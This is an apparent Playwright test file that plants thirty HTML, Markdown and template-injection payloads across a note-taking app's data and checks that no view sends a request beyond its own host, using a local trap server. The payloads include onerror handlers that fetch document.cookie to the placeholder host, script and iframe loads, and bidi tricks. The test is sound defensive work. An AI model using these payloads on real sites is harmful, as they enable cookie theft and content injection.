/**
 * N3: thirty pieces of text that make other programs' pages load something, in every place where strangers' text is shown: no request
 * leaves the page but to its own host.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import path from 'node:path';
import { expect, type Page } from 'playwright/test';
import { encodeRecord } from '../../src-main/engine/storage/record-codec.ts';
import { chromiumArgs, chromiumPath } from '../support/chromium.ts';
import { makeRepository } from '../support/repository.ts';
import { trustOnPage } from '../support/trust.ts';
import { makeWorld, test } from './world.ts';

/** `T` stands for the address that must never hear anything. */
const snippets = [
  '![picture](T/1.png)',
  '[![badge](T/2.svg)](T/2)',
  '![picture][ref]\n\n[ref]: T/3.png',
  '<img src="T/4.png">',
  '<img srcset="T/5.png 1x, T/5b.png 2x" src="T/5c.png">',
  '<img src=x onerror="fetch(`T/6?`+document.cookie)">',
  '<script src="T/7.js"></script>',
  '<svg onload="new Image().src=`T/8`"></svg>',
  '<svg><image href="T/9.png" xlink:href="T/9b.png"/></svg>',
  '<iframe src="T/10"></iframe>',
  '<iframe srcdoc="<img src=T/11.png>"></iframe>',
  '<object data="T/12.swf"></object><embed src="T/12b">',
  '<video src="T/13.mp4" poster="T/13.png" autoplay></video>',
  '<audio src="T/14.ogg" autoplay></audio>',
  '<link rel="stylesheet" href="T/15.css">',
  '<link rel="prefetch" href="T/16"><link rel="preconnect" href="T">',
  '<link rel="dns-prefetch" href="T"><link rel="icon" href="T/17.ico">',
  '<style>@import url("T/18.css"); body { background: url("T/18.png") }</style>',
  '<div style="background-image:url(T/19.png)">styled</div>',
  '<font face="x" style="src:url(T/20.woff2)">font</font>',
  '<meta http-equiv="refresh" content="0;url=T/21">',
  '<form action="T/22" id=f><input name=q></form><script>f.submit()</script>',
  '<base href="T/"><a href="23">based</a>',
  '<a href="T/24" ping="T/24p" autofocus onfocus="location=`T/24`">link</a>',
  '[click](javascript:fetch("T/25")) and <T/25>',
  'autolink T/26 and www.example.com/26 and mailto:a@T/26',
  '```mermaid\nclick A href "T/27"\n```\n$$\\href{T/27}{x}$$',
  '"><img src=T/28.png><"',
  '${fetch("T/29")} {{constructor.constructor("fetch(`T/29`)")()}} {@html "<img src=T/29>"}',
  '\u001b]8;;T/30\u0007link\u001b]8;;\u0007 \u202egnp.T/30\u202c <bdi><img src=T/30>',
];

// What a browser does by itself is part of what is tried here.
const executablePath = chromiumPath({ whole: true });
test.use({ launchOptions: { ...(executablePath ? { executablePath } : {}), args: chromiumArgs } });

test('N3: text that makes other pages load something makes this one load nothing', async ({ page }) => {
  test.setTimeout(180_000);
  let heard = 0;
  const trap = createServer((socket) => {
    heard++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  const bound = trap.address();
  const T = `http://127.0.0.1:${typeof bound === 'object' && bound ? bound.port : 0}`;
  const texts = snippets.map((text) => text.replaceAll('T/', `${T}/`).replaceAll('"T"', `"${T}"`));
  const world = await makeWorld({ project: (folder) => plantedRepository(folder, texts) });
  const asked: string[] = [];
  try {
    await world.vesper('add', world.repository.path);
    const lines = texts.flatMap((text, i) => [
      {
        id: `n${i}`,
        at: stamp(i),
        source: 'note',
        origin: 'user-direct',
        text: `Remember that the tests run with npm test ${i}: ${text}`,
        project: 'hostile',
      },
      {
        id: `a${i}`,
        at: stamp(i),
        source: 'agent',
        kind: 'prompt',
        origin: 'user-turn',
        session: `s${i % 5}`,
        text,
        project: 'hostile',
        data: { agent: 'codex' },
      },
      { id: `x${i}`, at: stamp(i), source: 'forge', origin: 'external', text, project: 'hostile' },
    ]);
    const file = path.join(world.folder, 'planted.jsonl');
    writeFileSync(file, lines.map((line) => `${JSON.stringify(line)}\n`).join(''));
    expect(await world.vesper('import', file)).toMatchObject({ imported: lines.length });
    await world.vesper('dream', '--now');

    page.on('request', (request) => asked.push(request.url()));
    page.on('dialog', (dialog) => void dialog.dismiss());
    const link = await world.link();
    await page.goto(link);
    const shown = await lookEverywhere(page);
    await page.goto(`${new URL(link).origin}/popover.html`);
    await page.waitForTimeout(500);

    const own = new URL(link).origin;
    const beyond = asked.filter((url) => !url.startsWith(`${own}/`) && !url.startsWith('data:'));
    trustOnPage(test.info(), {
      id: 'N3',
      tried: `pieces of text that load something elsewhere, shown ${shown} times in all views`,
      count: snippets.length,
      bad: beyond.length + heard,
      badly: 'requests beyond the page’s own host',
    });
    expect(beyond).toEqual([]);
    expect(heard).toBe(0);
    // The traps were really shown, as text, on many screens.
    expect(shown).toBeGreaterThan(60);
    expect(asked.length).toBeGreaterThan(3);
  } finally {
    await page.close();
    await world.stop();
    trap.close();
  }
});

/** Every view, and of what each lists the first entries opened; how often the trap's address stood on a screen as text. */
async function lookEverywhere(page: Page): Promise<number> {
  let shown = 0;
  const look = async () => {
    const text = await page.evaluate(() => document.body.innerText);
    shown += text.split(/127\.0\.0\.1:\d+\/\d/).length - 1;
    expect(
      await page.locator('img[src*="//"], iframe, object, embed, video, audio, a[href], base, form[action]').count(),
    ).toBe(0);
  };
  for (const key of ['0', '1', '2', '3', '4', '5', '6']) {
    await page.keyboard.press(`Control+${key}`);
    await page.waitForTimeout(250);
    await look();
    const rows = page.getByRole('main').getByRole('button').or(page.getByRole('main').getByRole('link'));
    for (let i = 0; i < Math.min(await rows.count(), 4); i++) {
      const row = rows.nth(i);
      const words = (await row.textContent({ timeout: 1000 }).catch(() => '')) ?? '';
      if (!/http|img|svg|link|script|hostile|Notes|topic|dream/i.test(words)) continue;
      await row.click({ timeout: 2000 }).catch(() => undefined);
      await page.waitForTimeout(150);
      await look();
      await page.keyboard.press('Escape');
    }
  }
  await page.keyboard.press('Control+f');
  for (const words of ['picture', 'tests run with npm', 'img src']) {
    await page.getByRole('combobox').fill(words);
    await page.waitForTimeout(250);
    await look();
  }
  return shown;
}

/** Names of files, a commit's subject and body, a branch, a manifest, and a ledger that shows what was sent. */
function plantedRepository(folder: string, texts: string[]) {
  const repository = makeRepository(folder, 'hostile');
  const home = path.join(folder, '../.vesper');
  mkdirSync(home);
  const copy = texts.join('\n');
  const entry = { at: stamp(1), host: 'model.example', purpose: texts[3] ?? '', sent: 1, received: 1, spent: 0, copy };
  writeFileSync(
    path.join(home, 'ledger.log'),
    encodeRecord({ seq: 1, ...entry }) + encodeRecord({ seq: 2, ...entry, refused: texts[0] }),
  );
  repository.write(
    'package.json',
    JSON.stringify({ name: 'hostile', description: texts[0], scripts: { test: texts[3] } }),
  );
  repository.write('README.md', texts.join('\n\n'));
  texts
    .slice(0, 12)
    .forEach((text, i) => repository.write(`src/${i}-${text.replaceAll(/[/\n\0]/g, '_').slice(0, 120)}.md`, text));
  for (let i = 0; i < texts.length; i += 5) {
    repository.write(`src/n${i}.js`, `${i}\n`);
    repository.commit(`decided: ${texts[i]?.replaceAll('\n', ' ') ?? ''}\n\n${texts.slice(i, i + 5).join('\n')}`);
  }
  return repository;
}

function stamp(i: number): string {
  return new Date(Date.now() - 3_600_000 + i * 1000).toISOString().replace('Z', '+00:00');
}
